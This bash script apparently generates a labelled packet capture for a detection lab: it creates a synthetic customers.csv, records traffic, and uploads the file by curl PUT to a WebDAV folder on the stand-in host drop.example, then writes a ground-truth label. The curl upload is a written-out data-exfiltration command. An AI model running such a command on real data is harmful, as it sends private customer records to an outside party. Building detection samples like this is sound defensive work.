#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a chunked PUT into a WebDAV folder.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 150 >"$LAB/customers.csv"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 -T - http://drop.example/dav/customers.csv \
    <"$LAB/customers.csv"
lab_stop
table truth accounts 150 channel=http party=drop.example \
    >"$here/truth.json"
